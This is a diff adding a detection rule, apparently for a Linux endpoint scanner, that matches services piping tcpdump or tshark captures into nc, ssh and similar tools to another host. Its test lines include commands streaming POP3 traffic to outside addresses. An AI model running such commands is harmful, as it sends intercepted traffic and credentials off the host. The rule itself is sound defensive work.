@@ -1,0 +1,12 @@
+-- sends_capture: captured network traffic goes to another host
+-- platform:        linux
+-- technique:       T1543.002
+-- weight:          40
+-- reference:       tcpdump(1)
+-- false positives: a remote capture of an administrator, which is not a service
+--
+-- pattern: unix (tcpdump|tshark|dumpcap) +[^;|]*-[A-Za-z]*w *- *[^;|]*[|] *(/[a-z/]+/)?(nc|ncat|netcat|socat|curl|ssh|openssl)
+-- fires:   {"unix": "/bin/sh -c \"/usr/sbin/tcpdump -U -w - port 110 | nc 198.51.100.4 5000\""}
+-- fires:   {"unix": "tshark -i any -w - | ssh x@203.0.113.9 'cat > a'"}
+-- spares:  {"unix": "/usr/sbin/tcpdump -i eth0 -w /var/log/a.pcap"}
+-- spares:  {"unix": "/usr/sbin/tcpdump -U -w - port 110 | gzip"}
